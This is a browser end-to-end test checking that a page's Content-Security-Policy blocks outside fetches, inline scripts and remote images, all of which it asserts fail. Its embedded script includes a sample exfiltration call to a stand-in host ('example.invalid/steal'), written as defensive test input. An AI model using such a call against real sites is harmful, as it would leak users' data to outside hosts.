"""Content-Security-Policy (issue 8): the page allows only its own origin. From inside the
loaded page, a fetch to another host and an inline script both fail, the browser reports the
violations, and no request ever reaches the network."""

from __future__ import annotations

import pytest

from e2e.conftest import App

pytestmark = pytest.mark.e2e

ATTEMPT = """async () => {
  const violations = [];
  document.addEventListener("securitypolicyviolation",
    (e) => violations.push(e.violatedDirective));
  let fetched = "allowed";
  try { await fetch("https://example.invalid/steal?x=1"); } catch { fetched = "blocked"; }
  window.__inline = 0;
  const script = document.createElement("script");
  script.textContent = "window.__inline = 1;";
  document.body.append(script);
  const img = document.createElement("img");
  img.src = "https://example.invalid/pixel.png";
  document.body.append(img);
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { fetched, inline: window.__inline, violations };
}"""


def test_outside_fetch_and_inline_script_are_refused(browser, site) -> None:
    site.start()
    app = App(browser, site.url)
    try:
        app.open()
        result = app.page.evaluate(ATTEMPT)
        assert result["fetched"] == "blocked"
        assert result["inline"] == 0  # the inline script never ran
        directives = set(result["violations"])
        assert any(d.startswith("connect-src") for d in directives), directives
        assert any(d.startswith("script-src") for d in directives), directives
        assert any(d.startswith("img-src") for d in directives), directives
        # CSP stopped all three before the network: the offline guard saw nothing leave
        assert app.guard.blocked == []
    finally:
        app.context.close()
